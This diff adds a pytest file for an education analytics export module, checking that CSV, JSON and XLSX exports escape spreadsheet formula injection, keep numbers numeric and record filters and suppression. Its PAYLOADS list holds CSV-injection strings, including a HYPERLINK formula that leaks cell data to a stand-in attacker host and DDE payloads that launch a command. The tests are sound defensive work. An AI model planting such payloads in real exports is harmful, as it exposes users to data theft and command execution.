@@ -1,0 +1,189 @@
+"""Exports: formula-safe cells, CSV/JSON/XLSX that say what they are, and numbers that stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import datetime
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from analytics.exports.meta import ExportMeta, filename
+from analytics.exports.safe import FORMULA_START, safe_text, safe_value
+from analytics.exports.suppression import rule_text, suppress
+from analytics.exports.writers import csv_bytes, json_bytes
+from analytics.exports.xlsx import SheetTable, full_workbook, table_workbook
+from analytics.filters import Filters
+from analytics.metrics.spec import TABLES
+
+PAYLOADS = [
+    "=1+1",
+    "+cmd",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=x",
+    "\r=x",
+    "\n=x",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '+IMPORTXML(CONCAT("http://x/", A1), "//a")',
+    "-1+1|cmd",
+    "＝1+1",
+    "=2+5 ",
+]
+HARMLESS = ["Trauma-Informed Teaching", "Sainte-Thérèse Academy", "-5", "+1.5", "1e3", "O'Bryant", ""]
+META = ExportMeta(Filters.parse(["Charter"], None, "SP18", "FA19"), datetime(2026, 11, 23, 9, 30), 10)
+
+
+def mix_frame(titles: list[str]) -> pd.DataFrame:
+    n = len(titles)
+    return pd.DataFrame(
+        {
+            "term": ["Spring 2019"] * n,
+            "course_code": [f"BEC-19S-{i:02d}" for i in range(n)],
+            "course_title": titles,
+            "category": ["rigorous_curricula"] * n,
+            "leader_sectors": ["charter;district"] * n,
+            "participants": [12 + i for i in range(n)],
+            "sectors_represented": [3] * n,
+            "mixing_index": [0.6111] * n,
+        }
+    )
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payloads_are_escaped_with_a_quote(payload):
+    assert safe_text(payload) == "'" + payload
+    assert not safe_text(payload).startswith(FORMULA_START)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_text_and_plain_numbers_are_left_alone(text):
+    assert safe_text(text) == text
+
+
+def test_numbers_stay_numbers():
+    assert safe_value(-3) == -3 and isinstance(safe_value(-3), int)
+    assert safe_value(pd.Series([-7], dtype="Int64").iloc[0]) == -7
+    assert safe_value(-0.25) == -0.25
+    assert safe_value(pd.NA) is None and safe_value(float("nan")) is None
+
+
+def test_csv_neutralises_every_payload_and_has_no_extra_rows():
+    frame = mix_frame(PAYLOADS + HARMLESS)
+    data = csv_bytes(frame)
+    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[0] == list(frame.columns)
+    assert len(rows) == len(frame) + 1
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START) or cell in ("-5", "+1.5"), cell
+    assert [r[2] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + HARMLESS
+    assert rows[1][5] == "12" and rows[1][7] == "0.6111"
+
+
+def test_csv_blanks_withheld_cells_and_keeps_negative_numbers():
+    frame = pd.DataFrame({"term": ["Fall 2018"], "participants": pd.array([pd.NA], dtype="Int64"), "change": [-4]})
+    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
+    assert rows[1] == ["Fall 2018", "", "-4"]
+
+
+def test_xlsx_reopens_with_the_same_values_text_escaped_numbers_numeric():
+    frame = mix_frame(PAYLOADS + HARMLESS)
+    data = table_workbook(SheetTable(TABLES["course_mix"], frame, ["a note"]), META)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["course_mix", "About"]
+    sheet = book["course_mix"]
+    assert [c.value for c in sheet[1]] == list(frame.columns)
+    assert sheet.freeze_panes == "A2"
+    assert sheet["A1"].font.bold
+    for i, title in enumerate(PAYLOADS + HARMLESS, start=2):
+        cell = sheet.cell(row=i, column=3)
+        # XML stores a carriage return inside text as a line feed; the escape is what matters
+        expected = safe_text(title).replace("\r", "\n")
+        assert (cell.value or "") == expected
+        assert cell.data_type != "f"
+        assert sheet.cell(row=i, column=6).value == 12 + i - 2
+        assert sheet.cell(row=i, column=6).data_type == "n"
+        assert sheet.cell(row=i, column=8).value == pytest.approx(0.6111)
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate
+
+
+def test_xlsx_number_formats_and_widths():
+    frame = pd.DataFrame(
+        {
+            "term": ["Spring 2018"],
+            "category": ["all_learners"],
+            "responses": [1234],
+            "completions": [2000],
+            "response_rate": [0.617],
+            "avg_rating": [4.123],
+            "nps": [17.6],
+            "implement_agree_rate": [0.41],
+            "lead_interest_rate": [0.3],
+        }
+    )
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(table_workbook(SheetTable(TABLES["survey_by_category"], frame, []), META))
+    )["survey_by_category"]
+    formats = {sheet.cell(row=1, column=j).value: sheet.cell(row=2, column=j).number_format for j in range(1, 10)}
+    assert formats["responses"] == "#,##0"
+    assert formats["response_rate"] == "0.0%"
+    assert formats["avg_rating"] == "0.00"
+    assert formats["nps"] == "0.0"
+    assert sheet.column_dimensions["I"].width >= len("lead_interest_rate")
+
+
+def test_about_sheet_says_filters_as_of_and_suppression():
+    tables = [SheetTable(spec, pd.DataFrame(columns=list(spec.columns)), [rule_text(10)]) for spec in TABLES.values()]
+    book = openpyxl.load_workbook(io.BytesIO(full_workbook(tables, META)))
+    assert book.sheetnames == ["About", *TABLES]
+    text = " ".join(str(c.value) for row in book["About"].iter_rows() for c in row if c.value is not None)
+    assert "sectors: charter" in text and "Spring 2018 to Fall 2019" in text
+    assert "2026-11-23 09:30 UTC" in text
+    assert rule_text(10) in text
+    for spec in TABLES.values():
+        assert spec.description in text
+        assert [c.value for c in book[spec.name][1]] == list(spec.columns)
+
+
+def test_json_has_meta_columns_rows_and_nulls_for_withheld():
+    frame = pd.DataFrame(
+        {
+            "term": ["Spring 2018"],
+            "participants": [25],
+            "new_participants": [3],
+            "returning_participants": [22],
+            "returning_rate": [0.88],
+        }
+    )
+    spec = TABLES["returning_by_term"]
+    result = suppress(frame, spec, 10)
+    document = json.loads(json_bytes(result.frame, spec, META, result.notes))
+    assert set(document) == {"meta", "columns", "rows"}
+    assert document["columns"] == list(spec.columns)
+    assert document["rows"] == [["Spring 2018", 25, None, None, None]]
+    meta = document["meta"]
+    assert meta["table"] == "returning_by_term"
+    assert meta["filters"]["sectors"] == ["charter"]
+    assert meta["filters"]["term_from"] == "Spring 2018"
+    assert meta["as_of"].startswith("2026-11-23T09:30:00")
+    assert meta["suppression"]["suppress_below"] == 10
+    assert meta["notes"] == result.notes
+
+
+def test_file_names_carry_filters_threshold_and_as_of():
+    assert filename("participation_by_term", META, "csv") == (
+        "participation_by_term_sector-charter_terms-spring2018-to-fall2019_k10_2026-11-23.csv"
+    )
+    plain = ExportMeta(Filters(), None, None)
+    assert filename("course_mix", plain, "json") == "course_mix_no-data.json"
+    both = ExportMeta(Filters.parse(["district", "charter"], ["Culturally proficient"]), datetime(2020, 1, 2), 5)
+    assert filename("x", both, "xlsx") == "x_sector-district-charter_category-culturally_proficient_k5_2020-01-02.xlsx"
